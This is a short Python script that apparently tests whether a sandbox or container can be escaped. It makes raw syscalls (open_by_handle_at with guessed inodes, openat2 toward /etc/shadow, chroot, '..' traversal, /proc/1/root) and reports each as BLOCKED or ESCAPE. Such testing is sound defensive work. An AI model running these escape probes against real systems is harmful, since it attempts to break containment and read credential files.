import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *arguments):
    done = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if done < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return done
def attempt(what, act):
    try:
        done = act()
    except Exception as error:
        print("BLOCKED:", what, type(error).__name__, getattr(error, "errno", ""), flush=True)
    else:
        print("ESCAPE:" if done else "no effect:", what, flush=True)

import struct
handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
attempt("name_to_handle_at", lambda: call(303, -100, b"/usr", handle, ctypes.byref(mount), 0) == 0)
for inode in 2, 128, 256, 1:
    guess = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, inode, 0))
    attempt(f"open_by_handle_at {inode}", lambda: call(304, os.open("/usr", os.O_RDONLY), guess, 0) >= 0)
attempt("openat2", lambda: call(437, -100, b"/../../etc/shadow", struct.pack("=QQQ", 0, 0, 0), 24) >= 0)
root = os.open("/", os.O_RDONLY)
attempt("..", lambda: os.path.exists("/../" * 30 + "root/.bashrc") or os.stat("..", dir_fd=root).st_ino != os.stat("/").st_ino)
attempt("chroot", lambda: os.chroot(".") is None)
attempt("/proc/1/root", lambda: os.listdir("/proc/1/root/"))
attempt("/proc/1/cwd", lambda: os.listdir("/proc/1/cwd/"))
print("DONE")
